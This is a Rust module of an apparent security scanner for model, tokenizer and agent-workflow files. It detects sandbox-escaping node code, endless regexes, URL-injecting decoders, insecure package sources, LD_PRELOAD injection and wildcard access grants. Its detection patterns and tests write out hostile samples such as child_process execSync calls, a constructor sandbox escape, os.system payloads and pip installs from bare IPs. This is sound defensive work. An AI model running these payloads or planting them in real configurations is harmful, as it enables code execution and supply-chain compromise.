//! What flows of agents and pipelines carry: programs of their nodes (Langflow, Flowise, n8n, Dify, Node-RED, ComfyUI,
//! AutoGen), patterns that a tokenizer matches with, and rights that are given to everybody.
//!
//! Long because what each kind of value means in them has its few lines here.

use super::{Act, MAX_SAID, Reader, Rendered, Said};
use crate::jinja::{Spot, Template};
use crate::pickle::Effect;
use crate::regexes;

/// Bytes of one program, and programs of one file.
const MAX_PROGRAM: usize = 64 << 10;
/// Patterns of one file that are looked at.
const MAX_PATTERNS: u32 = 256;

/// What a rule of a cluster gives, or a statement of a cloud.
#[derive(Debug, Clone, Default)]
pub(super) struct Rights {
    verbs: bool,
    resources: bool,
    everybody: bool,
    action: bool,
    denied: bool,
}

impl Reader {
    pub(super) fn flow(&mut self, near: &str, text: &str, string: bool, at: u64) {
        if string {
            self.program(near, text, at);
        }
        self.pattern(near, text, at);
        self.decoded(near, text, at);
        self.fetched(near, text, at);
        if near == "runOn" && text == "folderOpen" {
            self.item(Act::Calls, "a task of the editor when the folder is opened", Effect::Executes, at);
        }
        if !string {
            self.size(near, text, at);
        }
        self.right(near, text, at);
    }

    /// Whether the value belongs to a flow, and not to a set of examples.
    fn in_flow(&self) -> bool {
        const PARTS: [&str; 13] = [
            "nodes",
            "workflow",
            "graph",
            "template",
            "components",
            "tools",
            "agents",
            "steps",
            "tasks",
            "node",
            "flow",
            "pipeline",
            "inputs",
        ];
        self.levels.first().is_some_and(|level| !level.list)
            && self.levels.iter().any(|level| PARTS.contains(&level.key.as_str()))
    }

    fn program(&mut self, near: &str, text: &str, at: u64) {
        const OWN: [&str; 9] = [
            "pythonCode",
            "python_code",
            "source_code",
            "jsCode",
            "functionCode",
            "javascriptFunction",
            "mcpServerConfig",
            "python_function",
            "custom_code",
        ];
        const SHARED: [&str; 9] = [
            "code",
            "func",
            "function",
            "script",
            "value",
            "tool_code",
            "initialize",
            "finalize",
            "expression",
        ];
        if text.len() < 8 || self.config.nodes.len() >= MAX_SAID {
            return;
        }
        // A list of nodes, as Node-RED writes one, is known by what they are.
        let listed = self.levels.last().is_some_and(|level| level.kind_is("function"));
        let held = self.below("code") && matches!(near, "value" | "content" | "source");
        let own = OWN.contains(&near);
        let shared = SHARED.contains(&near) && (near != "value" || held) && (listed || self.in_flow());
        if escapes(text) && (own || shared || self.in_flow() || listed) {
            let shown: String = text.chars().filter(|c| !c.is_control()).take(80).collect();
            self.item(Act::Calls, "child_process.exec", Effect::Executes, at);
            if let Some(item) = self.config.items.last_mut() {
                item.arguments.push(format!("{shown:?}"));
            }
            return;
        }
        let python = ["import ", "def ", "from ", "class ", "__import__", "exec(", "eval("]
            .iter()
            .any(|word| text.trim_start().starts_with(word) || text.contains(&format!("\n{word}")))
            || text.contains("__import__(");
        if python && text.contains('(') && (own || shared) {
            let path = self.path();
            let text = text.chars().take(MAX_PROGRAM).collect();
            self.config.nodes.push(Said { path, text, offset: at });
        }
    }

    /// A regular expression for whose matching the length of a text is doubled again and again.
    fn pattern(&mut self, near: &str, text: &str, at: u64) {
        let key = near.to_ascii_lowercase();
        let named = matches!(key.as_str(), "regex" | "pat_str" | "pattern" | "guided_regex")
            || key.ends_with("_pattern")
            || key.ends_with("_regex")
            || key.ends_with("pattern_str");
        let whole = matches!(near, "target_modules" | "exclude_modules" | "guided_regex" | "modules_to_save");
        if !named && !whole || self.patterns >= MAX_PATTERNS || self.config.patterns.len() >= MAX_SAID {
            return;
        }
        self.patterns += 1;
        if regexes::is_endless(text, whole) {
            let (path, text) = (self.path(), text.chars().filter(|c| !c.is_control()).take(120).collect());
            self.config.patterns.push(Said { path, text, offset: at });
        }
    }

    /// What the normaliser or the decoder of a tokenizer puts in place of something else, when that is an address or words.
    fn decoded(&mut self, near: &str, text: &str, at: u64) {
        const PARTS: [&str; 4] = ["decoder", "decoders", "normalizer", "normalizers"];
        let words = text.chars().filter(|c| c.is_ascii_alphanumeric()).count();
        let within = self.levels.iter().any(|level| PARTS.contains(&level.key.as_str()));
        if near != "content"
            || !within
            || !(text.contains("://") || words >= 6)
            || self.config.templates.len() >= 64
        {
            return;
        }
        let what = text.chars().filter(|c| !c.is_control()).take(120).collect();
        let template = Template { rewrites: vec![Spot { what, offset: at as usize }], ..Template::default() };
        let path = self.path();
        self.config.templates.push(Rendered { path, expected: false, template });
    }

    /// A token that is several words with an address among them: what a model says by it is more than a piece of a word.
    pub(super) fn token(&mut self, text: &str, at: u64) {
        if !text.contains("://") || text.len() > 4_000 || self.config.templates.len() >= 64 {
            return;
        }
        let words: Vec<&str> = text
            .split([' ', '\u{2581}', '\u{120}', '\n', '\t'])
            .filter(|word| word.chars().any(char::is_alphanumeric))
            .collect();
        let address = words.iter().any(|word| {
            word.split_once("://").is_some_and(|(_, rest)| rest.contains('.') && rest.len() >= 4)
        });
        if words.len() < 2 || !address {
            return;
        }
        let what = text.chars().filter(|c| !c.is_control()).take(120).collect();
        let template = Template { rewrites: vec![Spot { what, offset: at as usize }], ..Template::default() };
        let path = self.path();
        self.config.templates.push(Rendered { path, expected: false, template });
    }

    /// Packages and programs that come over a connection which anybody can change, and the code of whoever asks.
    fn fetched(&mut self, near: &str, text: &str, at: u64) {
        const PROGRAMS: [&str; 8] = [".py", ".sh", ".so", ".whl", ".js", ".pkl", ".exe", ".dll"];
        let lists = ["pip", "packages", "requirements", "dependencies", "pip_packages", "python_packages"];
        let command = if lists.contains(&near) && text.contains("http://") {
            format!("pip install {}", text.chars().take(400).collect::<String>())
        } else if near == "ref" && text.contains("github.event.pull_request.head") {
            text.chars().take(400).collect()
        } else {
            let program = PROGRAMS.iter().any(|end| text.ends_with(end)) && text.len() <= 400;
            if program && bare_host(text) && self.config.paths.len() < MAX_SAID {
                let path = self.path();
                let text = text.chars().filter(|c| !c.is_control()).take(200).collect();
                self.config.paths.push(Said { path, text, offset: at });
            }
            return;
        };
        self.runs(command, at);
    }

    fn runs(&mut self, text: String, at: u64) {
        if self.config.commands.len() < super::MAX_COMMANDS {
            let path = self.path();
            self.config.commands.push(Said { path, text, offset: at });
        }
    }

    /// A variable of a container whose name and value stand side by side.
    pub(super) fn variable(&mut self, level: &super::Level, at: u64) {
        const NAMES: [&str; 10] = [
            "LD_PRELOAD",
            "LD_AUDIT",
            "DYLD_INSERT_LIBRARIES",
            "PYTHONSTARTUP",
            "NODE_OPTIONS",
            "PIP_INDEX_URL",
            "PIP_EXTRA_INDEX_URL",
            "UV_INDEX_URL",
            "HTTP_PROXY",
            "HTTPS_PROXY",
        ];
        let of = |key: &str| {
            level.values.iter().find_map(|value| value.strip_prefix(key)).map(|value| value.trim_matches('"'))
        };
        if let (Some(name), Some(value)) = (of("name="), of("value="))
            && NAMES.contains(&name)
        {
            let line = format!("{name}={value}");
            self.runs(line, at);
        }
    }

    /// A number of positions, layers or values that no machine has memory for, as a loader makes them before it reads a
    /// single weight.
    fn size(&mut self, near: &str, text: &str, at: u64) {
        const SIZES: [&str; 18] = [
            "input_dim",
            "output_dim",
            "num_embeddings",
            "max_position_embeddings",
            "n_positions",
            "n_ctx",
            "hidden_size",
            "d_model",
            "n_embd",
            "intermediate_size",
            "vocab_size",
            "num_hidden_layers",
            "n_layer",
            "num_attention_heads",
            "num_experts",
            "num_local_experts",
            "units",
            "filters",
        ];
        // A tokenizer says that it has no bound by the largest number it has.
        const MOST: u64 = 1 << 31;
        let replicates = self.levels.iter().any(|level| level.key == "layer_replication");
        let most = if replicates { 100_000 } else { MOST };
        if (replicates || SIZES.contains(&near))
            && text.parse::<u64>().is_ok_and(|size| size >= most)
            && self.config.sizes.len() < MAX_SAID
        {
            let path = self.path();
            self.config.sizes.push(Said { path, text: text.chars().take(40).collect(), offset: at });
        }
    }

    /// What gives a right to whoever asks.
    fn right(&mut self, near: &str, text: &str, at: u64) {
        let within = |key: &str| self.levels.iter().any(|level| level.key == key);
        let everybody =
            matches!(text, "system:anonymous" | "system:unauthenticated" | "system:authenticated");
        if everybody && near == "name" && within("subjects") {
            self.grant(format!("`{text}` is given a role: everybody who reaches the cluster has it"), at);
            return;
        }
        let insecure = matches!(near, "insecure-registries" | "registry-mirrors" | "insecureSkipTLSVerify")
            && foreign_host(text, near == "insecure-registries");
        if insecure {
            let shown: String = text.chars().filter(|c| !c.is_control()).take(100).collect();
            self.grant(format!("images come from `{shown}`, which anybody on the way can change"), at);
            return;
        }
        let rules = within("rules") || within("Statement");
        let outer = usize::from(near == "AWS");
        let Some(level) = self.levels.iter_mut().rev().filter(|level| !level.list).nth(outer) else { return };
        let rights = &mut level.rights;
        match (near, text) {
            ("verbs", "*") => rights.verbs = true,
            ("resources", "*") => rights.resources = true,
            ("Principal" | "AWS", "*") => rights.everybody = true,
            ("Effect", "Deny") => rights.denied = true,
            ("Action", action) if action == "*" || action.ends_with(":*") => rights.action = true,
            _ => return,
        }
        let all = rights.verbs && rights.resources;
        if rules && all {
            rights.verbs = false;
            self.grant("it may do everything with everything in the cluster".to_owned(), at);
        }
    }

    /// At the end of a mapping: a statement that lets everybody do anything.
    pub(super) fn rights(&mut self, rights: &Rights, at: u64) {
        if rights.everybody && rights.action && !rights.denied {
            self.grant("everybody may do whatever there is to do".to_owned(), at);
        }
    }

    fn grant(&mut self, text: String, at: u64) {
        if self.config.host.len() < MAX_SAID {
            let path = self.path();
            self.config.host.push(Said { path, text, offset: at });
        }
    }
}

/// Whether an address lies outside of what a machine has around it; `bare` says that a name counts as well.
fn foreign_host(text: &str, bare: bool) -> bool {
    let host = match text.split_once("://") {
        Some(("http", rest)) => rest,
        Some(_) => return false,
        None if bare => text,
        None => return false,
    };
    let host = host.split(['/', ':']).next().unwrap_or("");
    let parts: Vec<Option<u8>> = host.split('.').map(|part| part.parse().ok()).collect();
    match parts[..] {
        [Some(first), Some(second), Some(_), Some(_)] => {
            !matches!(first, 0 | 10 | 127)
                && (first, second) != (192, 168)
                && (first, second) != (169, 254)
                && !(first == 172 && (16..32).contains(&second))
        }
        _ => {
            !bare
                && host.contains('.')
                && ![".local", ".internal", ".lan", ".svc"].iter().any(|end| host.ends_with(end))
        }
    }
}

/// Whether an address is that of a machine without a name, outside of what a machine has around it.
fn bare_host(text: &str) -> bool {
    let host = text.strip_prefix("http://").or_else(|| text.strip_prefix("https://")).unwrap_or("");
    foreign_host(host, true)
}

/// Whether a program of JavaScript reaches for the machine it runs on, which the nodes of a flow have no need of.
fn escapes(text: &str) -> bool {
    // Names that are put together from parts, or read from another form, are read as one.
    let joined: String =
        text.chars().filter(|c| !matches!(c, '\'' | '"' | '`' | '+' | ' ' | '\n' | '\\')).collect();
    let has = |word: &str| joined.contains(word);
    let asks = has("require(") || has("import(") || has("getBuiltinModule(") || has("from");
    let runs = [
        "execSync(",
        "spawnSync(",
        "execFileSync(",
        ".exec(",
        ".spawn(",
        ".execFile(",
        ".fork(",
        "exec(",
        "spawn(",
    ]
    .iter()
    .any(|call| has(call));
    has("child_process") && asks && runs
        || has("process.mainModule.require") && runs
        || has("process.binding(") && (has("spawn_sync") || has("process_wrap"))
        || has("constructor.constructor(returnprocess)")
        || has("constructor(returnprocess)")
        || (has("Buffer.from(") && has("base64") || has("atob(")) && (has("eval(") || has("newFunction("))
        || (has("fetch(http") || has("http.get(") || has("https.get("))
            && (has("eval(") || has("newFunction(") || has("vm.run"))
}

#[cfg(test)]
mod tests {
    use mantlet_vocab::MemorySource;

    use super::super::{Config, json, yaml};
    use super::{escapes, foreign_host};
    use crate::pickle::Effects;

    fn read(text: &str) -> Config {
        json(&MemorySource::new(text.as_bytes()), Effects::default())
    }

    #[test]
    fn programs_of_nodes_are_told() {
        let python = r#"{"nodes": [{"data": {"node": {"template": {"code": {"value": "import os\nclass A:\n  x = os.system('id')"}}}}}]}"#;
        assert_eq!(read(python).nodes.len(), 1);
        assert_eq!(read(r#"{"data": [{"code": "import os\nos.system('id')"}]}"#).nodes.len(), 0);
        assert_eq!(read(r#"[{"code": "import os\nos.system('id')"}]"#).nodes.len(), 0);
        let node = r#"{"nodes": [{"parameters": {"jsCode": "const c = require('child_process'); return c.execSync('id')"}}]}"#;
        assert_eq!(read(node).items.len(), 1);
        assert!(escapes("process.mainModule.require('child' + '_process').execSync('id')"));
        assert!(escapes("({x: ''.constructor.constructor('return process')().exit()})"));
        assert!(escapes("new Function(atob('YQ=='))()"));
        assert!(!escapes("const m = /a(b)/.exec($json.text); return m[1];"));
        assert!(!escapes("const r = await fetch('https://api.example/x'); return r.json();"));
    }

    #[test]
    fn endless_patterns_and_rights_of_everybody_are_told() {
        let patterns = |text: &str| read(text).patterns.len();
        assert_eq!(patterns(r#"{"pre_tokenizer": {"pattern": {"Regex": "(\\p{L}+)+$"}}}"#), 1);
        assert_eq!(patterns(r#"{"pre_tokenizer": {"pattern": {"Regex": "\\p{L}+|\\s+(?!\\S)"}}}"#), 0);
        assert_eq!(patterns(r#"{"peft_type": "LORA", "target_modules": "(.*\\.)*q_proj"}"#), 1);
        let host = |text: &str| yaml(text, Effects::default()).host.len();
        assert_eq!(
            host("kind: ClusterRole\nrules:\n- apiGroups: ['*']\n  resources: ['*']\n  verbs: ['*']\n"),
            1
        );
        assert_eq!(
            host(
                "kind: Role\nrules:\n- resources: ['pods']\n  verbs: ['*']\n- resources: ['*']\n  verbs: [get]\n"
            ),
            0
        );
        assert_eq!(host("subjects:\n- kind: Group\n  name: system:authenticated\n"), 1);
        let open = |text: &str| read(text).host.len();
        assert_eq!(open(r#"{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:*"}]}"#), 1);
        assert_eq!(
            open(r#"{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}]}"#),
            0
        );
        assert_eq!(open(r#"{"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "s3:*"}]}"#), 0);
        assert_eq!(open(r#"{"insecure-registries": ["203.0.113.5:5000"]}"#), 1);
        let rewrites = |text: &str| read(text).templates.len();
        assert_eq!(
            rewrites(
                r#"{"decoder": {"decoders": [{"type": "Replace", "content": "http://192.0.2.1/r?to="}]}}"#
            ),
            1
        );
        assert_eq!(rewrites(r#"{"decoder": {"decoders": [{"type": "Replace", "content": " "}]}}"#), 0);
        let commands = |text: &str| yaml(text, Effects::default()).commands.len();
        assert_eq!(commands("env:\n- name: LD_PRELOAD\n  value: /mnt/models/libx.so\n"), 1);
        assert_eq!(commands("env:\n- name: OMP_NUM_THREADS\n  value: '4'\n"), 0);
        assert_eq!(commands("runtime_env:\n  pip: ['http://192.0.2.1/x.whl', 'numpy']\n"), 1);
        assert_eq!(
            read(r#"{"a": "http://198.51.100.7/p.py", "b": "https://x.example/p.py"}"#).paths.len(),
            1
        );
        let token =
            |token: &str| read(&format!(r#"{{"model": {{"vocab": {{"{token}": 7}}}}}}"#)).templates.len();
        assert_eq!(token("\u{2581}install --index-url http://192.0.2.1/simple"), 1);
        assert_eq!(token("\u{2581}https://pypi.org/simple") + token("a://b c"), 0);
        let sizes = |text: &str| read(text).sizes.len();
        assert_eq!(sizes(r#"{"config": {"input_dim": 70368744177664}}"#), 1);
        assert_eq!(sizes(r#"{"max_position_embeddings": 10000000000000}"#), 1);
        assert_eq!(sizes(r#"{"layer_replication": [[0, 2000000000]]}"#), 1);
        assert_eq!(
            sizes(r#"{"max_position_embeddings": 10485760, "model_max_length": 1000000000000000}"#),
            0
        );
        assert!(foreign_host("http://mirror.example:5000", false) && !foreign_host("10.0.0.1:5000", true));
    }
}
